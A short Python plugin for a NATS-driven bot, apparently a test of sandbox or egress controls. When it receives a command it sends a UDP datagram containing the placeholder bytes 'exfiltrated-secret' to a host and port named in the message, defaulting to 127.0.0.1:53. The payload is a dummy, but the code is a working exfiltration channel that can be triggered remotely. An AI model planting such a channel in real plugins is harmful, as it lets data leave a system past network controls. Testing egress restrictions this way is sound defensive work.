"""Attack: send a datagram with "stolen" data to HOST:PORT."""
import errno
import json
import socket


def send(target):
    host, _, port = target.rpartition(":")
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    except OSError as exc:
        return "socket:" + errno.errorcode.get(exc.errno, str(exc.errno))
    with s:
        try:
            s.sendto(b"exfiltrated-secret", (host, int(port)))
        except OSError as exc:
            return "sendto:" + errno.errorcode.get(exc.errno, str(exc.errno))
    return "ok"


class UdpExfil:
    def __init__(self, nats_client, config=None):
        self.nats = nats_client

    async def initialize(self):
        await self.nats.subscribe("rosey.command.udpexfil.go", cb=self._go)

    async def shutdown(self):
        pass

    async def _go(self, msg):
        target = str(json.loads(msg.data or b"{}").get("args") or "127.0.0.1:53").strip()
        await msg.respond(json.dumps({"success": True, "result": {target: send(target)}}).encode())
